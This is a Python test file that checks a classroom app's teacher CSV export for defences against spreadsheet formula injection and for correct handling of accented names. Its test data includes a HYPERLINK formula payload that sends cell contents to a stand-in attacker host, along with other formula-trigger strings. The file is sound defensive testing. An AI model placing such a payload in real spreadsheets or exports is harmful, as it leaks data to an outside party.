"""Issue 21, case 7: names and run names starting with =, +, - or @ went raw into the teacher's CSV, which a
spreadsheet runs as formulas (`=HYPERLINK("http://…"&A1,"Open")`), and accents showed garbled. Every text cell
that a spreadsheet would read as a formula now starts with an apostrophe, and the file has a UTF-8 BOM."""

from __future__ import annotations

import csv
import io

import pytest

from cnnlab.classroom.export import runs_csv, spreadsheet_safe
from cnnlab.engine.owners import new_owner_token
from cnnlab.testing.classroom import CHALLENGE_CONFIG, conv_stack

HOSTILE = ('=HYPERLINK("http://evil.example/?"&A1,"Open")', "+1+1", "-2+3", "@SUM(A1:A9)")


@pytest.mark.parametrize(("cell", "safe"), [
    ("=1+1", "'=1+1"), ("+1", "'+1"), ("-1", "'-1"), ("@A1", "'@A1"), ("\t=1", "'\t=1"), ("\r=1", "'\r=1"),
    ("Ada", "Ada"), ("a=b", "a=b"), ("", ""), (-1, -1), (0.97, 0.97), (None, None),
])
def test_a_cell_a_spreadsheet_would_run_is_escaped_and_numbers_are_kept(cell: object, safe: object) -> None:
    assert spreadsheet_safe(cell) == safe


def test_the_teachers_csv_escapes_formulas_in_names_and_run_names_and_keeps_accents(scripted) -> None:
    manager, _ = scripted
    students = {new_owner_token(): name for name in (*HOSTILE, "Chloé")}
    for owner, name in students.items():
        manager.submit(owner, conv_stack(4), CHALLENGE_CONFIG, name=name)  # run named like its student
    data = runs_csv(manager.store.all_runs(), students)
    assert data.startswith(b"\xef\xbb\xbf")  # the UTF-8 byte-order mark: spreadsheets then read UTF-8
    rows = list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"))))
    assert [(row["student"], row["run"]) for row in rows] == [
        *((f"'{name}", f"'{name}") for name in HOSTILE), ("Chloé", "Chloé")]
    assert [row["parameters"] for row in rows] == ["6810"] * 5  # numbers stay numbers
    assert not [cell for row in rows for cell in row.values() if cell and cell[0] in "=+-@\t\r"]
